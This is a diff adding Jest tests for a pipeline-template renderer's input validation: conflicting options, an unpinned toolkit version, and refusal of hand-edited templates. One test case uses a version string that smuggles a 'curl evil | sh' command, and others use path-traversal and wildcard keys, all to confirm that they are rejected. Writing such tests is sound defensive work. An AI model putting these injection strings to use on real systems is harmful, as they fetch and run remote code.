@@ -366,3 +366,41 @@ test('the question of an approval stays within the limit of the service, whateve
     expect(filled.length).toBeLessThan(1000)
   }
 })
+
+test.each([
+  ['a comparison that uploads', { check: true, upload: true }, 'check and upload exclude each other'],
+  ['a comparison that deploys', { check: true, deploy: true }, 'check and deploy exclude each other'],
+  ['a choice without a deployment', { underWay: 'drain' }, 'input under-way is about a deployment'],
+])('refused before anything is read: %s', async (_, more, message) => {
+  const given = renderPipelineTemplates.inputs.parse({ configuration: '/nowhere', ...more })
+  const failed = renderPipelineTemplates.run(given, testContext())
+  await expect(failed).rejects.toMatchObject({ reason: 'input-invalid', message: expect.stringContaining(message) })
+})
+
+const unpinned = example.replace(/^ +toolkit-version: .*\n/m, '')
+
+test('without a version in liftlock.yml, the template that is there says which archive counts', async () => {
+  const { ended: unknown, out } = await rendered(unpinned, 'unpinned')
+  expect(unknown).toMatchObject({ reason: 'input-missing', hint: saying('upload the archive with --upload') })
+
+  const { out: former } = await rendered(example, 'pinned')
+  await nodeFiles.write(join(out, 'pipeline.json'), readFileSync(join(former, 'pipeline.json')))
+  expect((await rendered(unpinned, 'unpinned')).ended).toMatchObject({
+    toolkitVersion: '3sL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY',
+    uploaded: false,
+  })
+  expect((await rendered(unpinned, 'unpinned', true)).ended).toMatchObject({ outcome: 'no-changes' })
+})
+
+test.each([
+  ['a version that is a command', { Key: 'toolkit.zip', Version: "v'; curl evil | sh; '" }, 'is not the version'],
+  ['a key of another folder', { Key: `../x/${'a'.repeat(64)}.zip`, Version: 'v1' }, 'does not allow'],
+  ['a key that matches others', { Key: 'toolkit/*', Version: 'v1' }, 'does not allow'],
+  ['no JSON', undefined, 'is damaged'],
+])('a template that was changed by hand is refused: %s', async (name, Toolkit, message) => {
+  const place = `by-hand-${name.replaceAll(' ', '-')}`
+  const text = Toolkit === undefined ? '{' : JSON.stringify({ Metadata: { Liftlock: { Toolkit } } })
+  await nodeFiles.write(join(folder, place, 'pipeline', 'pipeline.json'), text)
+  const { ended } = await rendered(unpinned, place)
+  expect(ended).toMatchObject({ reason: 'configuration-invalid', message: expect.stringContaining(message) })
+})
